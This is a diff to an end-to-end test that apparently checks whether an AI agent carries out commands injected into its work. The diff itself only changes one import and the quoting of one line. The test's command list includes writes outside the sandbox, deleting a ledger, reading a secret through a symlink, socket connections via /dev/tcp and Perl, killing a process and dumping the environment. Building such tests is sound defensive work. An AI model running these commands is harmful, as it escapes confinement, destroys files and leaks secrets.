@@ -8,7 +8,7 @@ import pytest
 from tests.e2e.injection.books import Entry, check_nothing_unallowed, entries_of
 from tests.e2e.injection.commands import CONFINED, SHELL
 from tests.e2e.injection.ground import MINE, Ground, World, break_ground, take_stock
-from tests.e2e.injection.letters import Attempt, asked, letter, read, refused
+from tests.e2e.injection.letters import Attempt, asked, letter, refused
 from tests.e2e.injection.search import Watch, leaks
 from tests.e2e.injection.tools import PAY
 from tests.e2e.tools.work import Pause, continued, decide, open_continue, paused
@@ -213,7 +213,7 @@ async def test_a_program_that_does_more_than_it_says(desk: Desk) -> None:
         f"echo pwned > {world.outside}/pwned.txt; echo pwned > ../{world.neighbour}/pwned.txt",
         f"rm -f {world.outside}/ledger.csv; ln -s {world.outside}/secret.txt link; cat link",
         f"exec 3<>/dev/tcp/{host}/{port} && echo GET / >&3",
-        f"perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"{world.receiver.address}\")->print(\"GET /\\n\")'",
+        f'perl -MIO::Socket::INET -e \'IO::Socket::INET->new("{world.receiver.address}")->print("GET /\\n")\'',
         f"kill -TERM {pid}",
         "env; set; cat notes.txt; touch done.txt",
     ]
